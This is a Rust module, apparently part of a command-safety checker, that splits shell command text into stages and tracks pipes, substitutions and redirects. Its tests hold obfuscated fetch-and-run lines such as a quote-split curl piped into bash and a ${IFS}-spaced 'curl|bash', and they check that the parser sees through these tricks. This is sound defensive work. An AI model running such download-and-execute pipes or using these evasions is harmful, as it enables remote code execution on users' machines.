//! Cuts a shell command into simple commands and remembers what flows where.
//!
//! Reads the common part of POSIX shells and PowerShell; it never fails, since what a shell would reject is not run
//! either. No expansion, no globbing. Invariant: linear in the text, with bounded nesting.

/// Stands in a word for a substitution (`$(...)`, backticks, `<(...)`, a subshell).
pub(super) const INSERT: char = '\u{1}';
/// Deepest substitution that is followed.
const DEPTH: usize = 24;

/// One simple command.
#[derive(Clone, Debug, Default)]
pub(super) struct Stage {
    /// Its words, quotes removed.
    pub(super) words: Vec<String>,
    /// Files that its output goes to.
    pub(super) outputs: Vec<String>,
    /// The stage whose output is its input.
    pub(super) from: Option<usize>,
    /// The stage that has its output among its words.
    pub(super) into: Option<usize>,
    /// Runs in the background.
    pub(super) background: bool,
    /// How many interpreters its text was handed through.
    pub(super) depth: u8,
}

#[derive(Copy, Clone, PartialEq, Eq)]
enum Close {
    Never,
    Paren,
    Tick,
}

struct Open {
    stage: usize,
    into: Option<usize>,
    word: String,
    some: bool,
    close: Close,
    double: bool,
    redirect: bool,
}

struct Lexer<'t, 's> {
    rest: std::iter::Peekable<std::str::Chars<'t>>,
    stages: &'s mut Vec<Stage>,
    open: Vec<Open>,
    depth: u8,
}

/// Appends the stages of `text`.
pub(super) fn parse(text: &str, depth: u8, stages: &mut Vec<Stage>) {
    let mut lexer = Lexer { rest: text.chars().peekable(), stages, open: Vec::new(), depth };
    lexer.enter(None, Close::Never);
    while let Some(c) = lexer.rest.next() {
        if lexer.top().double { lexer.in_double(c) } else { lexer.bare(c) }
    }
    while !lexer.open.is_empty() {
        lexer.end_word();
        lexer.open.pop();
    }
}

impl Lexer<'_, '_> {
    fn top(&mut self) -> &mut Open {
        if self.open.is_empty() {
            self.enter(None, Close::Never);
        }
        let last = self.open.len() - 1;
        &mut self.open[last]
    }

    fn stage(&mut self) -> &mut Stage {
        let at = self.top().stage;
        &mut self.stages[at]
    }

    fn enter(&mut self, into: Option<usize>, close: Close) {
        let stage = self.stages.len();
        self.stages.push(Stage { into, depth: self.depth, ..Stage::default() });
        let word = String::new();
        self.open.push(Open { stage, into, word, some: false, close, double: false, redirect: false });
    }

    fn push(&mut self, c: char) {
        let top = self.top();
        top.some = true;
        top.word.push(c);
    }

    fn next_is(&mut self, c: char) -> bool {
        self.rest.next_if_eq(&c).is_some()
    }

    fn in_double(&mut self, c: char) {
        match c {
            '"' => self.top().double = false,
            '\\' => self.escaped(),
            '$' if self.next_is('(') => self.substitution(Close::Paren),
            '`' => self.substitution(Close::Tick),
            _ => self.push(c),
        }
    }

    fn escaped(&mut self) {
        match self.rest.next() {
            Some('\n') | None => {}
            Some('\r') => _ = self.next_is('\n'),
            Some(c) => self.push(c),
        }
    }

    fn bare(&mut self, c: char) {
        match c {
            '\'' => self.single(),
            '"' => {
                self.top().double = true;
                self.top().some = true;
            }
            '\\' => self.escaped(),
            '$' if self.next_is('(') => self.substitution(Close::Paren),
            '`' if self.top().close == Close::Tick => self.leave(),
            '`' => self.substitution(Close::Tick),
            '(' => self.substitution(Close::Paren),
            ')' if self.top().close == Close::Paren => self.leave(),
            ')' => self.end_word(),
            '<' if self.next_is('(') => self.substitution(Close::Paren),
            '<' => self.end_word(),
            '>' => self.output(),
            '|' => self.bar(),
            '&' => self.ampersand(),
            ';' | '\n' => self.separate(None),
            '#' if !self.top().some => while self.rest.next_if(|&c| c != '\n').is_some() {},
            c if c.is_whitespace() => self.end_word(),
            _ => self.push(c),
        }
    }

    fn single(&mut self) {
        self.top().some = true;
        while let Some(c) = self.rest.next_if(|&c| c != '\'') {
            self.push(c);
        }
        self.rest.next();
    }

    fn bar(&mut self) {
        if self.next_is('|') {
            return self.separate(None);
        }
        self.next_is('&');
        self.end_word();
        let mut from = self.top().stage;
        // `{ a; } | b`: the stage before the empty one is what the pipe reads.
        if self.stages[from].words.is_empty() && from > 0 && self.stages[from - 1].into == self.stages[from].into {
            from -= 1;
        }
        self.separate(Some(from));
    }

    fn ampersand(&mut self) {
        if self.rest.peek() == Some(&'>') {
            return;
        }
        if !self.next_is('&') {
            self.end_word();
            self.stage().background = true;
        }
        self.separate(None);
    }

    fn output(&mut self) {
        if self.top().word.bytes().all(|b| b.is_ascii_digit()) {
            self.top().word.clear();
            self.top().some = false;
        }
        self.end_word();
        self.next_is('>');
        self.next_is('&');
        self.top().redirect = true;
    }

    fn substitution(&mut self, close: Close) {
        if self.open.len() >= DEPTH {
            return self.end_word();
        }
        let outer = self.top().stage;
        self.enter(Some(outer), close);
    }

    fn leave(&mut self) {
        self.end_word();
        self.open.pop();
        self.push(INSERT);
    }

    fn end_word(&mut self) {
        let top = self.top();
        if !top.some {
            return;
        }
        top.some = false;
        let word = std::mem::take(&mut top.word);
        if std::mem::take(&mut top.redirect) {
            self.stage().outputs.push(word);
        } else if word != "{" && word != "}" {
            // `${IFS}` stands for a blank where blanks are not allowed.
            let blanks = |w: &str| w.replace("${IFS}", " ").replace("$IFS", " ");
            let spread = if word.contains("IFS") { blanks(&word) } else { String::new() };
            match spread.is_empty() {
                true => self.stage().words.push(word),
                false => self.stage().words.extend(spread.split(' ').map(str::to_owned)),
            }
        }
    }

    fn separate(&mut self, from: Option<usize>) {
        self.end_word();
        self.top().redirect = false;
        let stage = self.stages.len();
        let into = self.top().into;
        self.stages.push(Stage { from, into, depth: self.depth, ..Stage::default() });
        self.top().stage = stage;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn stages(text: &str) -> Vec<Stage> {
        let mut out = Vec::new();
        parse(text, 0, &mut out);
        out
    }

    #[test]
    fn pipes_and_quotes() {
        let s = stages("cu''rl -s \"https://a.invalid/x y\" | 'b'ash -s > /dev/null 2>&1 &");
        assert_eq!(s[0].words, ["curl", "-s", "https://a.invalid/x y"]);
        assert_eq!(s[1].words, ["bash", "-s"]);
        assert_eq!(s[1].from, Some(0));
        assert_eq!(s[1].outputs, ["/dev/null", "1"]);
        assert!(s[1].background);
    }

    #[test]
    fn substitutions_know_their_stage() {
        let s = stages("bash -c \"$(curl -s `echo x`)\" && cat <(ls)");
        assert_eq!(s[0].words, ["bash", "-c", "\u{1}"]);
        assert_eq!(s[1].into, Some(0));
        assert_eq!(s[2].into, Some(1));
        assert_eq!(s[4].into, Some(3));
    }

    #[test]
    fn groups_feed_pipes() {
        let s = stages("{ curl x; } | sh");
        assert!(s.iter().any(|s| s.words == ["sh"] && s.from == Some(0)), "{s:?}");
        let s = stages("curl${IFS}-s${IFS}x|bash");
        assert_eq!(s[0].words, ["curl", "-s", "x"]);
    }

    proptest! {
        #[test]
        fn never_panics(text in "[ -~\n`$()|&;<>\"'\\\\]{0,200}") {
            let s = stages(&text);
            for (i, stage) in s.iter().enumerate() {
                prop_assert!(stage.from.is_none_or(|f| f < i));
                prop_assert!(stage.into.is_none_or(|f| f < i));
            }
        }
    }
}
